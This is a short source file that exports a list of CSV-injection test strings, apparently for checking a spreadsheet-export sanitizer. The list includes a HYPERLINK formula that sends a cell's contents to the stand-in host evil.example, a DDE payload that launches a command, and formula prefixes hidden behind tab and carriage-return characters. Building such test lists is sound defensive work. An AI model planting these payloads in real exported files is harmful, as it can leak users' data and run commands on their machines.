/** OWASP's CSV-injection leaders, with the tab and carriage return that some importers strip before looking. */
export const HOSTILE = ['=HYPERLINK("https://evil.example/?d="&A1,"x")', "=cmd|' /C calc'!A0", '+1+1', '-2+3', '@SUM(1,1)', '\t=1+1', '\r=1+1'];
